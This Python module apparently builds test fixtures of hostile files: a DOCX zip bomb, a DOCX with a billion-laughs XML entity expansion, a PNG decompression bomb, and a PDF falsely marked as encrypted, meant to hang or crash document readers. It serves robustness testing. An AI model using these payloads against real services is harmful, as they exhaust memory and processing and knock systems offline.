"""Files made to hang, crash or explode a reader, each written as an attacker would."""

import io
import struct
import zipfile
import zlib
from collections.abc import Iterable

_WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_TYPES = '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def docx(parts: Iterable[bytes]) -> bytes:
    """A DOCX whose main part is these bytes, one after the other."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        with archive.open("word/document.xml", "w", force_zip64=True) as stream:
            for part in parts:
                stream.write(part)
    return out.getvalue()


def zip_bomb() -> bytes:
    """100 MB of paragraphs in half a megabyte."""
    paragraphs = b"<w:p><w:r><w:t>0</w:t></w:r></w:p>" * 30_000
    return docx([f"<w:document {_WORD}><w:body>".encode(), *[paragraphs] * 100])


def billion_laughs() -> bytes:
    """Entities that name each other: ten to the ninth times one word."""
    entities = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    text = f'<!DOCTYPE x [<!ENTITY l0 "哈">{entities}]><w:document {_WORD}><w:body>'
    return docx([f"{text}<w:p><w:r><w:t>&l9;</w:t></w:r></w:p></w:body></w:document>".encode()])


def pdf(content: bytes = b"", more_objects: int = 0) -> bytes:
    """A PDF of one page with this content stream, and objects that nothing refers to."""
    bodies = [
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        *[b"<</A 1>>"] * more_objects,
    ]
    out, places = bytearray(b"%PDF-1.4\n"), []
    for number, body in enumerate(bodies, 1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, body)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(bodies) + 1, start)
    return bytes(out)


def locked_pdf() -> bytes:
    """A PDF that says it is encrypted (RC4, 128 bits) with a password that nobody gave."""
    lock = b"<</Filter/Standard/V 2/R 3/Length 128/P -44/O(%s)/U(%s)>>" % (b"o" * 32, b"u" * 32)
    plain = pdf(b"0 0 m 9 9 l S")
    return plain.replace(
        b"/Root 1 0 R", b"/Root 1 0 R/Encrypt %s/ID[(0123456789abcdef)(0123456789abcdef)]" % lock
    )


def png(width: int, height: int) -> bytes:
    """A black picture, one bit a pixel: hundreds of megabytes from some kilobytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    rows = zlib.compressobj(1)
    row = bytes((width + 7) // 8 + 1)
    data = b"".join(rows.compress(row) for _ in range(height)) + rows.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def archive(files: dict[str, bytes]) -> bytes:
    """A ZIP of these files."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zipped:
        for name, body in files.items():
            zipped.writestr(name, body)
    return out.getvalue()
